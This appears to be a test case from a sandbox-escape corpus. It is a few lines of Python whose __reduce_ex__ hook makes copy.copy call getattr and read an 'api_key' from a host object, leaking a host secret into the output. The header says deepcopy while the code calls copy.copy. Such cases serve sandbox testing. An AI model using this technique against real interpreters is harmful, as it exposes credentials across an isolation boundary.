# id: 580
# name: deepcopy_calls
# category: interpreter
# technique: copy.deepcopy calls what __reduce__ names: a class of the host's
# breach: hostmem
# looks_like: a host secret reaches the output
# imports: copy
# baseline: inproc
import copy
class R:
    def __reduce_ex__(self, p):
        return (getattr, (note_store, 'api_key'))
print(copy.copy(R()))
